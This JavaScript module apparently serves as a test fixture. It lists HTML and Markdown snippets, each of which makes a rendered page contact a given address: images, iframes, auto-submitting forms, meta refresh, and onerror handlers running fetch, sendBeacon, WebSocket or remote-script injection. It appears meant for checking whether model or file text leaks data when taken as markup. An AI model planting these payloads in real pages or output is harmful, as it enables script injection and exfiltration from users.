// Ways in which a text could make a page reach another machine, if any of it were taken for markup. No slash but in the address, so
// that each can also be the name of a file; no end tags, because a parser needs none.

/** What a text does once a script of it runs. */
const run = script => `<img src=data:, onerror="${script}">`;

const htmlOf = {
	img: to => `<img src=${to}>`,
	srcset: to => `<img srcset="${to} 1x">`,
	picture: to => `<picture><source srcset=${to}><img>`,
	style: to => `<p style="background:url(${to})">a`,
	import: to => `<svg><style>@import '${to}';`,
	font: to => `<p style="font-family:f">a<svg><style>@font-face{font-family:f;src:url(${to})}`,
	iframe: to => `<iframe src=${to}>`,
	object: to => `<object data=${to}>`,
	embed: to => `<embed src=${to}>`,
	form: to => `<form action=${to}><input name=a><img src=data:, onerror=this.parentNode.submit()>`,
	refresh: to => `<meta http-equiv=refresh content="0;url=${to}">`,
	stylesheet: to => `<link rel=stylesheet href=${to}>`,
	prefetch: to => `<link rel=prefetch href=${to}>`,
	svgImage: to => `<svg><image href=${to}>`,
	svgUse: to => `<svg><use href=${to}#a>`,
	poster: to => `<video poster=${to}>`,
	audio: to => `<audio src=${to} preload=auto>`,
	input: to => `<input type=image src=${to}>`,
	base: to => `<base href=${to}><img src=?a>`,
	ping: to => `<a ping=${to} href=#a><img src=data:, onerror=this.parentNode.click()>`,
	script: to => run(`document.body.append(Object.assign(document.createElement('script'),{src:'${to}'}))`),
	fetch: to => run(`fetch('${to}')`),
	request: to => run(`r=new XMLHttpRequest();r.open('GET','${to}');r.send()`),
	socket: to => run(`new WebSocket('${to}'.replace('http','ws'))`),
	events: to => run(`new EventSource('${to}')`),
	beacon: to => run(`navigator.sendBeacon('${to}')`),
};

/** `text` is what a model or a file says, `html` what would reach `to` in a page that takes it for markup. */
export const channels = [
	...Object.entries(htmlOf).map(([name, html]) => ({ name, text: html, html })),
	// What Markdown would make of it.
	{ name: 'markdown', text: to => `![a](${to})`, html: htmlOf.img },
];
